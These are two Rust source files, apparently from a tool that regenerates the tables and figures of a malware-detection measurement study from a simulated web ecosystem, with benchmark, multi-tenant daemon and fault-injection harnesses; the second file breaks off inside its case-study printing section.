        let (tw_study, tw_phases) = Study::run_timed(&config(JsEngine::TreeWalk));
        // Keep only the outcomes for the equality check and free the
        // rest (web, corpus, HAR logs) before timing the VM study —
        // holding the first study's full corpus alive would tax the
        // second run's allocator and skew the comparison.
        let tw_outcomes = tw_study.outcomes.clone();
        drop(tw_study);
        eprintln!("[bench] crawl_scale {scale}: vm study ...");
        let (vm_study, vm_phases) = Study::run_timed(&config(JsEngine::Vm));
        assert_eq!(
            vm_study.outcomes, tw_outcomes,
            "vm scan output must be bit-identical to the interpreter's"
        );
        let m = vm_study.metrics();
        let records = vm_study.store.len();
        let tw_scan = tw_phases.scan.as_secs_f64();
        let vm_scan = vm_phases.scan.as_secs_f64();
        println!(
            "scale {scale}: {records} records; scan tree-walk {tw_scan:.3}s, \
             vm {vm_scan:.3}s ({:.2}x); {} compiles, {} warm hits",
            tw_scan / vm_scan.max(1e-9),
            m.counter("js.vm.compiles"),
            m.counter("js.vm.module_cache.hits"),
        );
        scale_entries.push(JsVmScale {
            crawl_scale: scale,
            records,
            treewalk_scan_seconds: tw_scan,
            vm_scan_seconds: vm_scan,
            vm_scan_speedup: tw_scan / vm_scan.max(1e-9),
            treewalk_records_per_sec: records as f64 / tw_scan.max(1e-9),
            vm_records_per_sec: records as f64 / vm_scan.max(1e-9),
            js_vm: JsVmCounters {
                compiles: m.counter("js.vm.compiles"),
                module_cache_lookups: m.counter("js.vm.module_cache.lookups"),
                module_cache_hits: m.counter("js.vm.module_cache.hits"),
                instructions: m.counter("js.vm.instructions"),
                budget_exhaustions: m.counter("js.vm.budget_exhaustions"),
            },
        });
    }

    let doc = JsVmDoc {
        benchmark: "jsvm".to_string(),
        seed,
        host: BenchHost { cpus },
        microbench: JsVmMicrobench {
            distinct_payloads: distinct,
            repeats,
            executions,
            engines,
            warm_speedup_vs_treewalk: warm_speedup,
        },
        scales: scale_entries,
    };
    let json = format!(
        "{}\n",
        serde_json::to_string_pretty(&doc).expect("bench document serializes")
    );
    match std::fs::write("BENCH_jsvm.json", &json) {
        Ok(()) => println!("\nwrote BENCH_jsvm.json"),
        Err(e) => eprintln!("repro: could not write BENCH_jsvm.json: {e}"),
    }
}

/// `repro serve`: the resident multi-tenant study daemon. Binds
/// `--port` (0 = ephemeral), prints the bound address as a
/// `SERVE_ADDR host:port` line for scripted clients, checkpoints every
/// tenant's studies under `--root`, and blocks until a `shutdown`
/// request arrives over the wire.
fn run_serve(args: &Args) {
    use std::io::Write as _;

    let root = args.serve_root.clone().unwrap_or_else(|| "serve-root".to_string());
    let service = slum_serve::Service::open(&root)
        .unwrap_or_else(|e| die(&format!("could not open serve root {root}: {e}")))
        .with_disk_fault_profile(args.disk_fault_profile.clone());
    let bind = format!("127.0.0.1:{}", args.port);
    let mut daemon = slum_serve::Daemon::start(service, &bind)
        .unwrap_or_else(|e| die(&format!("could not bind {bind}: {e}")));
    println!("SERVE_ADDR {}", daemon.addr());
    let _ = std::io::stdout().flush();
    eprintln!(
        "[repro] study service listening on {} (root {root}); \
         send {{\"op\":\"shutdown\"}} to stop",
        daemon.addr()
    );
    daemon.wait();
    eprintln!("[repro] study service stopped");
}

/// The multi-tenant service harness behind `repro bench-serve`, written
/// to `BENCH_serve.json`.
///
/// Two tenants submit the *same* study config to one in-process
/// [`slum_serve::Service`]: tenant `alpha` runs against cold shared
/// caches, tenant `beta` runs after them. The cross-tenant section
/// reports how much of beta's scan was answered by entries alpha
/// inserted (lookups minus inserts over the shared cache group) and the
/// wall-clock speedup that bought. Both tenants' exports are asserted
/// bit-identical to a batch `Study::run` of the same config before any
/// timing is trusted, and the verdict-query section times the shared
/// verdict index over every regular URL of the study.
fn bench_serve(seed: u64, quick: bool) {
    use std::time::Instant;

    use slum_serve::Service;

    let scale = if quick { 0.0005 } else { 0.002 };
    let checkpoint_every = 64u64;
    let cpus = malware_slums::study::default_scan_workers();
    let root = std::env::temp_dir().join(format!("slum-bench-serve-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);

    let config = StudyConfig::builder()
        .seed(seed)
        .crawl_scale(scale)
        .domain_scale((scale * 25.0).clamp(0.03, 1.0))
        .checkpoint_every(checkpoint_every)
        .build()
        .expect("bench config");
    let fingerprint = config.cache_fingerprint();
    println!("host: {cpus} cpu(s); crawl_scale {scale}; two tenants, shared caches");

    // The batch reference the daemon must reproduce bit-for-bit.
    let mut batch_config = config.clone();
    batch_config.checkpoint_every = None;
    eprintln!("[bench] batch reference study ...");
    let batch = Study::run(&batch_config);
    let batch_export = malware_slums::export::to_json(&batch).expect("batch export");

    let service =
        Service::open(&root).unwrap_or_else(|e| die(&format!("serve root: {e}")));
    let group_totals = |svc: &Service| -> (u64, u64) {
        svc.cache_group_stats(&fingerprint)
            .expect("cache group exists")
            .iter()
            .fold((0, 0), |(l, e), (_, s)| (l + s.lookups, e + s.entries))
    };

    let mut tenants = Vec::new();
    let mut run_tenant = |svc: &Service, tenant: &str| -> u64 {
        let id = svc.submit(tenant, config.clone()).expect("submit");
        let t0 = Instant::now();
        svc.run_to_completion().expect("scheduler");
        let seconds = t0.elapsed().as_secs_f64();
        let export = svc.export(id).expect("known study").expect("done study");
        assert_eq!(
            export, batch_export,
            "{tenant}: daemon artifacts must be bit-identical to batch"
        );
        let status = svc.status(id).expect("status");
        println!(
            "  tenant {tenant}: {seconds:.3}s, {} records, digest {}",
            status.records.unwrap_or(0),
            status.digest.clone().unwrap_or_default()
        );
        tenants.push(ServeTenantRun {
            tenant: tenant.to_string(),
            seconds,
            records: status.records.unwrap_or(0),
            digest: status.digest.unwrap_or_default(),
        });
        id
    };

    eprintln!("[bench] tenant alpha (cold caches) ...");
    let _a = run_tenant(&service, "alpha");
    let (warm_lookups, warm_entries) = group_totals(&service);

    eprintln!("[bench] tenant beta (warmed caches) ...");
    let b = run_tenant(&service, "beta");
    let (all_lookups, all_entries) = group_totals(&service);

    let beta_lookups = all_lookups - warm_lookups;
    let beta_inserts = all_entries - warm_entries;
    let beta_hits = beta_lookups.saturating_sub(beta_inserts);
    let hit_rate = beta_hits as f64 / beta_lookups.max(1) as f64;
    let speedup = tenants[0].seconds / tenants[1].seconds.max(1e-9);
    println!(
        "  cross-tenant: {beta_hits}/{beta_lookups} of beta's cache lookups hit \
         alpha's entries ({:.1}% hit rate, {speedup:.2}x speedup)",
        hit_rate * 100.0
    );

    // Verdict-query throughput: the shared index already knows every
    // regular URL of the study from both tenants' completions.
    let urls: Vec<String> =
        batch.regular_pairs().iter().map(|(r, _)| r.url.canonical()).collect();
    let rounds = if quick { 20usize } else { 100 };
    let mut known = 0u64;
    let t0 = Instant::now();
    for _ in 0..rounds {
        for url in &urls {
            known += u64::from(
                service.query_verdict(b, url).expect("known study").is_some(),
            );
        }
    }
    let verdict_seconds = t0.elapsed().as_secs_f64();
    let queries = (urls.len() * rounds) as u64;
    assert_eq!(known, queries, "every regular URL must have a shared verdict");
    let per_sec = queries as f64 / verdict_seconds.max(1e-9);
    println!(
        "  verdict queries: {queries} in {verdict_seconds:.3}s ({per_sec:.0}/s, all known)"
    );

    // A previous `repro chaos` run may have left a faults section in
    // the document; re-timing must not erase it (and vice versa), so
    // the two commands compose in either order.
    let faults = std::fs::read_to_string("BENCH_serve.json")
        .ok()
        .and_then(|s| serde_json::from_str::<serde_json::Value>(&s).ok())
        .and_then(|v| v.get("faults").cloned());
    let doc = ServeDoc {
        benchmark: "serve".to_string(),
        seed,
        crawl_scale: scale,
        checkpoint_every,
        host: BenchHost { cpus },
        tenants,
        cross_tenant: ServeCrossTenant {
            lookups: beta_lookups,
            inserts: beta_inserts,
            hits: beta_hits,
            hit_rate,
            second_tenant_speedup: speedup,
        },
        verdict_queries: ServeVerdictBench { queries, known, seconds: verdict_seconds, per_sec },
        faults,
    };
    let json = format!(
        "{}\n",
        serde_json::to_string_pretty(&doc).expect("serve document serializes")
    );
    match std::fs::write("BENCH_serve.json", &json) {
        Ok(()) => println!("wrote BENCH_serve.json"),
        Err(e) => eprintln!("repro: could not write BENCH_serve.json: {e}"),
    }
    let _ = std::fs::remove_dir_all(&root);
}

/// The seeded chaos harness behind `repro chaos`: runs the
/// [`slum_serve::chaos`] storm (daemon kills, checkpoint corruption,
/// harsh storage faults, tenant panics) over a multi-tenant service,
/// asserts every survivor's export is bit-identical to a fault-free
/// batch run, and merges a `faults` section into `BENCH_serve.json`
/// (alongside the timing sections `bench-serve` writes, when present).
///
/// `--quick` keeps one chaos seed; the full run storms under two seeds
/// — two completely different fault/scheduling orders — to document
/// that the order of faults never leaks into artifacts.
fn bench_chaos(seed: u64, quick: bool) {
    use serde_json::Value;
    use slum_serve::chaos::{run_storm, StormConfig};

    // The vendored `Value` is a plain content tree; this is its
    // object literal.
    fn vmap(entries: Vec<(&str, Value)>) -> Value {
        Value::Map(entries.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
    }

    let base = StormConfig { study_seed: seed, ..StormConfig::default() };
    eprintln!(
        "[chaos] batch reference studies ({} tenant(s), crawl_scale {}) ...",
        base.tenants, base.crawl_scale
    );
    let batches: Vec<String> = (0..base.tenants)
        .map(|t| {
            malware_slums::export::to_json(&Study::run(&base.batch_config(t)))
                .expect("batch export")
        })
        .collect();

    // The storm injects tenant panics that the service's slice
    // supervision catches; without this filter every one of them would
    // spray a backtrace over the report. Real (invariant) panics still
    // reach the default hook. The filter stays installed — bench_chaos
    // runs last and the process exits right after.
    let default_hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(move |info| {
        let injected = info
            .payload()
            .downcast_ref::<&str>()
            .map(|s| s.contains("chaos: injected"))
            .or_else(|| {
                info.payload().downcast_ref::<String>().map(|s| s.contains("chaos: injected"))
            })
            .unwrap_or(false);
        if !injected {
            default_hook(info);
        }
    }));

    let chaos_seeds: &[u64] =
        if quick { &[0xbad5_eed0] } else { &[0xbad5_eed0, 0x5ca1_ab1e] };
    let mut storms = Vec::new();
    for &chaos_seed in chaos_seeds {
        let root = std::env::temp_dir()
            .join(format!("slum-chaos-bench-{chaos_seed:08x}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        eprintln!(
            "[chaos] storm {chaos_seed:#010x}: {} actions, profile '{}' ...",
            base.actions, base.disk_fault_profile.name
        );
        let report = run_storm(&root, &StormConfig { chaos_seed, ..base.clone() });
        for (t, export) in report.exports.iter().enumerate() {
            assert_eq!(
                export, &batches[t],
                "tenant t{t} diverged from the fault-free batch under chaos \
                 seed {chaos_seed:#x}"
            );
        }
        println!(
            "  storm {chaos_seed:#010x}: {} kill(s), {} corruption(s), {} panic(s); \
             {} quarantined, {} rollback(s); every export bit-identical to batch",
            report.kills,
            report.corruptions,
            report.panics,
            report.quarantined,
            report.rollbacks
        );
        storms.push(vmap(vec![
            ("chaos_seed", Value::Str(format!("{chaos_seed:#010x}"))),
            ("kills", Value::U64(u64::from(report.kills))),
            ("corruptions", Value::U64(u64::from(report.corruptions))),
            ("panics", Value::U64(u64::from(report.panics))),
            ("quarantined", Value::U64(report.quarantined)),
            ("rollbacks", Value::U64(report.rollbacks)),
        ]));
        let _ = std::fs::remove_dir_all(&root);
    }

    let faults = vmap(vec![
        ("harness", Value::Str("chaos-storm".to_string())),
        ("disk_fault_profile", Value::Str(base.disk_fault_profile.name.clone())),
        ("tenants", Value::U64(base.tenants as u64)),
        ("storm_actions", Value::U64(u64::from(base.actions))),
        ("crawl_scale", Value::F64(base.crawl_scale)),
        ("checkpoint_every", Value::U64(base.checkpoint_every)),
        ("storms", Value::Seq(storms)),
        ("exports_bit_identical_to_batch", Value::Bool(true)),
    ]);
    // Merge (never clobber) the timing document bench-serve writes:
    // the faults section documents resilience, not throughput.
    let path = "BENCH_serve.json";
    let mut doc = std::fs::read_to_string(path)
        .ok()
        .and_then(|s| serde_json::from_str::<Value>(&s).ok())
        .filter(|v| v.as_map().is_some())
        .unwrap_or_else(|| {
            vmap(vec![
                ("benchmark", Value::Str("serve".to_string())),
                ("seed", Value::U64(seed)),
            ])
        });
    if let Value::Map(entries) = &mut doc {
        entries.retain(|(k, _)| k != "faults");
        entries.push(("faults".to_string(), faults));
    }
    let json = format!(
        "{}\n",
        serde_json::to_string_pretty(&doc).expect("serve document serializes")
    );
    match std::fs::write(path, &json) {
        Ok(()) => println!("wrote the faults section into {path}"),
        Err(e) => eprintln!("repro: could not write {path}: {e}"),
    }
}

/// One tenant's timed run inside `BENCH_serve.json`.
#[derive(serde::Serialize)]
struct ServeTenantRun {
    tenant: String,
    seconds: f64,
    records: u64,
    digest: String,
}

/// Shared-cache economics of the second tenant's run.
#[derive(serde::Serialize)]
struct ServeCrossTenant {
    lookups: u64,
    inserts: u64,
    hits: u64,
    hit_rate: f64,
    second_tenant_speedup: f64,
}

/// Verdict-index throughput section of `BENCH_serve.json`.
#[derive(serde::Serialize)]
struct ServeVerdictBench {
    queries: u64,
    known: u64,
    seconds: f64,
    per_sec: f64,
}

/// Top-level `BENCH_serve.json` document. The `faults` section is
/// owned by `repro chaos` and carried through re-timing runs verbatim.
#[derive(serde::Serialize)]
struct ServeDoc {
    benchmark: String,
    seed: u64,
    crawl_scale: f64,
    checkpoint_every: u64,
    host: BenchHost,
    tenants: Vec<ServeTenantRun>,
    cross_tenant: ServeCrossTenant,
    verdict_queries: ServeVerdictBench,
    #[serde(skip_serializing_if = "Option::is_none")]
    faults: Option<serde_json::Value>,
}

/// The pre-scaling-harness row shape, kept for existing consumers. The
/// legacy contract promises one entry per *requested* worker count; on
/// hosts where the serial-fallback clamp collapses several requests
/// onto one serial measurement, `executed_workers` and
/// `serial_fallback` say so per row — without them, four rows with
/// byte-identical seconds and speedup 1.0 read as four independent
/// timings that mysteriously refused to scale.
#[derive(serde::Serialize)]
struct LegacyRun {
    workers: usize,
    executed_workers: usize,
    seconds: f64,
    speedup: f64,
    serial_fallback: bool,
}

/// One engine configuration's microbenchmark row in `BENCH_jsvm.json`.
#[derive(serde::Serialize)]
struct JsEngineRun {
    engine: String,
    seconds: f64,
    runs_per_sec: f64,
    speedup_vs_treewalk: f64,
    #[serde(skip_serializing_if = "Option::is_none")]
    compiles: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    module_hits: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    compile_nanos: Option<u64>,
}

/// The repeated-payload microbenchmark section of `BENCH_jsvm.json`.
#[derive(serde::Serialize)]
struct JsVmMicrobench {
    distinct_payloads: usize,
    repeats: usize,
    executions: u64,
    engines: Vec<JsEngineRun>,
    warm_speedup_vs_treewalk: f64,
}

/// The `js.vm.*` counters of one VM study run.
#[derive(serde::Serialize)]
struct JsVmCounters {
    compiles: u64,
    module_cache_lookups: u64,
    module_cache_hits: u64,
    instructions: u64,
    budget_exhaustions: u64,
}

/// Per-crawl-scale scan-phase comparison in `BENCH_jsvm.json`.
#[derive(serde::Serialize)]
struct JsVmScale {
    crawl_scale: f64,
    records: usize,
    treewalk_scan_seconds: f64,
    vm_scan_seconds: f64,
    vm_scan_speedup: f64,
    treewalk_records_per_sec: f64,
    vm_records_per_sec: f64,
    js_vm: JsVmCounters,
}

/// Top-level `BENCH_jsvm.json` document.
#[derive(serde::Serialize)]
struct JsVmDoc {
    benchmark: String,
    seed: u64,
    host: BenchHost,
    microbench: JsVmMicrobench,
    scales: Vec<JsVmScale>,
}

/// Per-crawl-scale section of `BENCH_scanpipe.json`.
#[derive(serde::Serialize)]
struct BenchScale {
    crawl_scale: f64,
    records: usize,
    regular_records: usize,
    crawl_seconds: f64,
    scan_seconds: f64,
    barrier_total_seconds: f64,
    overlap_total_seconds: f64,
    overlap_savings_seconds: f64,
    runs: Vec<BenchRun>,
}

/// Host facts needed to interpret the speedup columns.
#[derive(serde::Serialize)]
struct BenchHost {
    cpus: usize,
}

/// Top-level `BENCH_scanpipe.json` document: the legacy flat keys
/// (first scale) plus the per-scale scaling sections.
#[derive(serde::Serialize)]
struct BenchDoc {
    benchmark: String,
    seed: u64,
    crawl_scale: f64,
    records: usize,
    runs: Vec<LegacyRun>,
    host: BenchHost,
    scan_chunk: usize,
    serial_scan_threshold: usize,
    scales: Vec<BenchScale>,
}
