//! `repro` — regenerate every table and figure of *Malware Slums*
//! (DSN 2016) from the simulated ecosystem.
//!
//! ```sh
//! cargo run --release -p slum-bench --bin repro -- all
//! cargo run --release -p slum-bench --bin repro -- table1 --scale 0.01
//! cargo run --release -p slum-bench --bin repro -- vetting burst cloaking cases
//! ```
//!
//! Artifacts: `table1`..`table4`, `fig2`..`fig7` (all served through
//! the unified [`ArtifactKind`] API), the auxiliary experiments
//! `vetting` (§III-B), `burst` (§IV), `cloaking` (§III fn. 1) and
//! `cases` (§V), `faultloss` (the detection-loss-under-faults
//! experiment), `crawlloss` (the corpus-loss-under-exchange-faults
//! experiment), plus `json` (the full study as one JSON document) and
//! `bench-scan` (serial vs parallel scan-phase timing, written to
//! `BENCH_scanpipe.json`). Options: `--scale <f64>` (crawl scale,
//! default 0.002), `--seed <u64>` (default 2016), `--workers <N>`
//! (scan-phase worker threads, default = available parallelism; `1`
//! forces the serial path), `--fault-profile <name>` (scan under a
//! named fault profile: `none`, `default`, `harsh`),
//! `--crawl-fault-profile <name>` (crawl under a named exchange-fault
//! profile: `none`, `default`, `harsh`), `--checkpoint <dir>` (write
//! crawl checkpoints into `<dir>`), `--checkpoint-every <N>` (surf
//! slots per checkpoint segment, default 256), `--resume <dir>`
//! (resume the crawl from the latest checkpoint in `<dir>`),
//! `--kill-after-round <N>` (abandon a `--checkpoint` run after N
//! checkpoint rounds — a deterministic stand-in for a crash) and
//! `--metrics <path>` (dump the study's observability snapshot —
//! `Study::metrics()` — as JSON).

use std::path::Path;
use std::sync::OnceLock;

use malware_slums::artifact::{Artifact, ArtifactKind};
use malware_slums::report::Render;
use malware_slums::study::{Study, StudyConfig};
use slum_crawler::CrawlFaultProfile;
use slum_detect::fault::FaultProfile;

struct Args {
    artifacts: Vec<String>,
    scale: f64,
    seed: u64,
    workers: usize,
    fault_profile: FaultProfile,
    crawl_fault_profile: CrawlFaultProfile,
    checkpoint: Option<String>,
    checkpoint_every: u64,
    resume: Option<String>,
    kill_after_round: Option<u64>,
    metrics: Option<String>,
}

fn parse_args() -> Args {
    let mut artifacts = Vec::new();
    let mut scale = 0.002;
    let mut seed = 2016;
    let mut workers = malware_slums::study::default_scan_workers();
    let mut fault_profile = FaultProfile::none();
    let mut crawl_fault_profile = CrawlFaultProfile::none();
    let mut checkpoint = None;
    let mut checkpoint_every = 256;
    let mut resume = None;
    let mut kill_after_round = None;
    let mut metrics = None;
    let mut iter = std::env::args().skip(1);
    while let Some(arg) = iter.next() {
        match arg.as_str() {
            "--scale" => {
                scale = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| die("--scale needs a float"));
            }
            "--seed" => {
                seed = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| die("--seed needs an integer"));
            }
            "--workers" => {
                workers = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .filter(|w| *w >= 1)
                    .unwrap_or_else(|| die("--workers needs a positive integer"));
            }
            "--fault-profile" => {
                let name = iter.next().unwrap_or_else(|| die("--fault-profile needs a name"));
                fault_profile = FaultProfile::parse(&name).unwrap_or_else(|| {
                    die(&format!(
                        "unknown fault profile '{name}' (known: {})",
                        FaultProfile::NAMES.join(", ")
                    ))
                });
            }
            "--crawl-fault-profile" => {
                let name =
                    iter.next().unwrap_or_else(|| die("--crawl-fault-profile needs a name"));
                crawl_fault_profile = CrawlFaultProfile::parse(&name).unwrap_or_else(|| {
                    die(&format!(
                        "unknown crawl fault profile '{name}' (known: {})",
                        CrawlFaultProfile::NAMES.join(", ")
                    ))
                });
            }
            "--checkpoint" => {
                checkpoint = Some(iter.next().unwrap_or_else(|| die("--checkpoint needs a dir")));
            }
            "--checkpoint-every" => {
                checkpoint_every = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .filter(|n| *n >= 1)
                    .unwrap_or_else(|| die("--checkpoint-every needs a positive integer"));
            }
            "--resume" => {
                resume = Some(iter.next().unwrap_or_else(|| die("--resume needs a dir")));
            }
            "--kill-after-round" => {
                kill_after_round = Some(
                    iter.next()
                        .and_then(|v| v.parse().ok())
                        .filter(|n| *n >= 1)
                        .unwrap_or_else(|| die("--kill-after-round needs a positive integer")),
                );
            }
            "--metrics" => {
                metrics = Some(iter.next().unwrap_or_else(|| die("--metrics needs a path")));
            }
            "--help" | "-h" => {
                println!(
                    "usage: repro [artifacts..] [--scale F] [--seed N] [--workers W] \
                     [--fault-profile NAME] [--crawl-fault-profile NAME] [--checkpoint DIR] \
                     [--checkpoint-every N] [--resume DIR] [--kill-after-round N] \
                     [--metrics PATH]\n\
                     artifacts: all table1 table2 table3 table4 fig2 fig3 fig4 fig5 fig6 fig7 \
                     vetting burst cloaking staleness faultloss crawlloss cases json bench-scan\n\
                     fault profiles: none default harsh"
                );
                std::process::exit(0);
            }
            other => artifacts.push(other.to_string()),
        }
    }
    if artifacts.is_empty() {
        artifacts.push("all".to_string());
    }
    if kill_after_round.is_some() && checkpoint.is_none() {
        die("--kill-after-round requires --checkpoint DIR");
    }
    if resume.is_some() && checkpoint.is_some() {
        die("--resume continues writing into its own dir; drop --checkpoint");
    }
    Args {
        artifacts,
        scale,
        seed,
        workers,
        fault_profile,
        crawl_fault_profile,
        checkpoint,
        checkpoint_every,
        resume,
        kill_after_round,
        metrics,
    }
}

fn die(msg: &str) -> ! {
    eprintln!("repro: {msg}");
    std::process::exit(2);
}

fn main() {
    let args = parse_args();
    let wants = |name: &str| args.artifacts.iter().any(|a| a == name || a == "all");
    let study_cell: OnceLock<Study> = OnceLock::new();
    let study = || {
        study_cell.get_or_init(|| {
            eprintln!(
                "[repro] running study: crawl_scale={} seed={} fault_profile={} \
                 crawl_fault_profile={} ...",
                args.scale, args.seed, args.fault_profile.name, args.crawl_fault_profile.name
            );
            let t0 = std::time::Instant::now();
            let mut builder = StudyConfig::builder()
                .seed(args.seed)
                .crawl_scale(args.scale)
                .domain_scale((args.scale * 25.0).clamp(0.03, 1.0))
                .scan_workers(args.workers)
                .fault_profile(args.fault_profile.clone())
                .crawl_fault_profile(args.crawl_fault_profile.clone());
            if args.checkpoint.is_some() || args.resume.is_some() {
                builder = builder.checkpoint_every(args.checkpoint_every);
            }
            let config = builder
                .build()
                .unwrap_or_else(|e| die(&format!("invalid configuration: {e}")));
            let study = if let Some(dir) = &args.resume {
                eprintln!("[repro] resuming crawl from latest checkpoint in {dir}");
                Study::resume_from(&config, Path::new(dir))
                    .unwrap_or_else(|e| die(&format!("resume failed: {e}")))
            } else if let Some(dir) = &args.checkpoint {
                match args.kill_after_round {
                    Some(rounds) => {
                        match Study::run_to_checkpoint(&config, Path::new(dir), rounds) {
                            Ok(Some(study)) => study,
                            Ok(None) => {
                                eprintln!(
                                    "[repro] crawl killed after {rounds} checkpoint round(s); \
                                     state saved in {dir} (continue with --resume {dir})"
                                );
                                std::process::exit(0);
                            }
                            Err(e) => die(&format!("checkpointed run failed: {e}")),
                        }
                    }
                    None => Study::run_checkpointed(&config, Path::new(dir))
                        .unwrap_or_else(|e| die(&format!("checkpointed run failed: {e}"))),
                }
            } else {
                Study::run(&config)
            };
            eprintln!(
                "[repro] study done: {} visits in {:?}",
                study.store.len(),
                t0.elapsed()
            );
            let snapshot = study.metrics();
            eprintln!(
                "[repro] phases: build {:?}  crawl {:?}  scan {:?} ({} worker(s))\n",
                snapshot.span_duration("phase.build"),
                snapshot.span_duration("phase.crawl"),
                snapshot.span_duration("phase.scan"),
                snapshot.gauge("scan.workers").max(1)
            );
            study
        })
    };

    // Every published table and figure goes through the unified
    // artifact API: one loop, one render call.
    for kind in ArtifactKind::ALL {
        if !wants(kind.name()) {
            continue;
        }
        let mut artifact = study().artifact(kind);
        // Table IV has hundreds of rows at scale; print the paper-sized
        // excerpt.
        if let Artifact::Table4(rows) = &mut artifact {
            rows.truncate(24);
        }
        println!("=== {} ===", kind.title());
        println!("{}", artifact.render());
    }
    if wants("vetting") {
        println!("=== SIII-B: gold-standard tool vetting ===");
        let gold = slum_detect::vetting::build_gold_standard(args.seed, 50);
        for row in slum_detect::vetting::run_vetting(&gold) {
            println!(
                "{:<16} {:>3}/{:<3} = {:>4.0}%   (paper {:>4.0}%){}",
                row.tool.name(),
                row.detected,
                row.total,
                row.accuracy() * 100.0,
                row.tool.paper_accuracy() * 100.0,
                if row.tool.selected() { "  <- selected" } else { "" }
            );
        }
        println!();
    }
    if wants("burst") {
        println!("=== SIV: paid-campaign burst validation ===");
        let mut builder = slum_websim::build::WebBuilder::new(args.seed);
        let dummy = builder.benign_site(Default::default());
        let profile = slum_exchange::params::profile("Cash N Hits").expect("profile");
        let mut exchange = slum_exchange::build_exchange(&mut builder, profile, 0.05, 500_000);
        let mut rng = slum_websim::rng::seeded(args.seed);
        let exp = slum_crawler::burst::run_burst_experiment(
            &mut exchange,
            &dummy.url,
            5,
            100_000,
            &mut rng,
        )
        .expect("fresh account");
        println!("purchased {} visits for ${}", exp.report.purchased, exp.campaign.dollars);
        println!("delivered {} visits (paper: 4,621)", exp.report.delivered);
        println!("unique IPs {} (paper: 2,685)", exp.report.unique_ips);
        println!("span {}s (paper: <1h)\n", exp.report.span_secs);
    }
    if wants("cloaking") {
        println!("=== SIII fn.1: cloaking vs content upload ===");
        let s = study();
        let uploads = s.outcomes.iter().filter(|o| o.needed_content_upload).count();
        let malicious = s.outcomes.iter().filter(|o| o.malicious).count();
        println!(
            "{} of {} malicious URLs were only caught by uploading crawler-captured content\n",
            uploads, malicious
        );
    }
    if args.artifacts.iter().any(|a| a == "json") {
        match malware_slums::export::to_json(study()) {
            Ok(json) => println!("{json}"),
            Err(e) => eprintln!("repro: JSON export failed: {e}"),
        }
    }
    if wants("staleness") {
        println!("=== Blacklist update-lag experiment ===");
        let report = malware_slums::staleness::run_lag_experiment(
            &malware_slums::staleness::LagConfig { seed: args.seed, ..Default::default() },
        );
        println!(
            "fresh-detectable visits: {}   caught through lagged lists: {}   missed: {} ({:.1}%)",
            report.flagged_fresh,
            report.flagged_stale,
            report.missed_by_lag,
            report.miss_fraction() * 100.0
        );
        println!(
            "mean onset-to-consensus lag: {:.1} days\n",
            report.mean_consensus_lag_secs / 86_400.0
        );
    }
    if wants("faultloss") {
        println!("=== Detection loss under service faults ===");
        // `--fault-profile none` (the default) would diff a fault-free
        // run against itself; exercise the moderate profile instead.
        let profile = if args.fault_profile.is_inert() {
            FaultProfile::default_profile()
        } else {
            args.fault_profile.clone()
        };
        let report = malware_slums::faultloss::run_fault_loss_experiment(
            &malware_slums::faultloss::FaultLossConfig {
                seed: args.seed,
                profile,
                ..Default::default()
            },
        );
        println!(
            "profile '{}': {} regular records, {} baseline detections",
            report.profile, report.regular, report.malicious_baseline
        );
        println!(
            "kept under faults: {}   missed: {} ({:.1}%)",
            report.malicious_faulted,
            report.missed_by_faults,
            report.miss_fraction() * 100.0
        );
        println!(
            "degraded verdicts: {}   blacklist-only: {}   unresolved: {}  ({:.1}% non-full)",
            report.degraded_verdicts,
            report.blacklist_only_verdicts,
            report.unresolved_verdicts,
            report.degraded_fraction() * 100.0
        );
        println!(
            "faults injected: {}   retries: {}   virtual backoff: {:.1}s   breaker skips: {}\n",
            report.injected_faults,
            report.retries,
            report.backoff_nanos as f64 / 1e9,
            report.breaker_skips
        );
    }
    if wants("crawlloss") {
        println!("=== Corpus loss under exchange faults ===");
        // As with `faultloss`: an inert profile would diff a fault-free
        // crawl against itself, so substitute the moderate one.
        let profile = if args.crawl_fault_profile.is_inert() {
            CrawlFaultProfile::default_profile()
        } else {
            args.crawl_fault_profile.clone()
        };
        let report = malware_slums::crawlloss::run_crawl_loss_experiment(
            &malware_slums::crawlloss::CrawlLossConfig {
                seed: args.seed,
                profile,
                ..Default::default()
            },
        );
        println!(
            "profile '{}': kept {} of {} planned pages ({:.1}% coverage)",
            report.profile,
            report.pages_faulted,
            report.pages_baseline,
            report.coverage_fraction() * 100.0
        );
        println!(
            "slots lost: {}   permanent shutdowns: {}",
            report.lost_steps, report.shutdowns
        );
        println!(
            "overall malice rate: {:.2}% -> {:.2}%  (bias {:+.2} pp)",
            report.overall_rate_baseline * 100.0,
            report.overall_rate_faulted * 100.0,
            report.overall_bias() * 100.0
        );
        for row in &report.rows {
            println!(
                "  {:<18} kept {:>4}/{:<4}  lost {:>4}  down {:>6}s  rate {:>5.1}% -> {:>5.1}%{}",
                row.exchange,
                row.pages_faulted,
                row.planned_steps,
                row.lost_steps,
                row.downtime_secs,
                row.rate_baseline() * 100.0,
                row.rate_faulted() * 100.0,
                match row.shutdown_at {
                    Some(t) => format!("  (shut down at t={t}s)"),
                    None => String::new(),
                }
            );
        }
        println!();
    }
    if wants("cases") {
        println!("=== SV: case studies ===");
        let s = study();
        let iframes = s.iframe_case_studies();
        let mut by_kind = std::collections::BTreeMap::new();
        for e in &iframes {
            *by_kind.entry(format!("{:?}", e.kind)).or_insert(0u64) += 1;
        }
        println!("iframe injections: {} exhibits {:?}", iframes.len(), by_kind);
        let downloads = s.download_case_studies();
        println!("deceptive downloads: {} exhibits", downloads.len());
        for d in downloads.iter().take(3) {
            println!("  {} -> {:?}", d.url, d.filenames);
        }
        let flash = s.flash_case_studies();
        println!("flash click-jacks: {} exhibits", flash.len());
        for f in flash.iter().take(3) {
            println!("  {} movie={} calls={:?}", f.url, f.movie_name, f.external_calls);
        }
        let fps = s.false_positive_case_studies();
        println!("false positives: {} exhibits", fps.len());
        for fp in fps.iter().take(3) {
            println!("  {} kind={:?} labels={:?}", fp.url, fp.kind, fp.labels);
        }

        // The paper's Code-listing style exhibits.
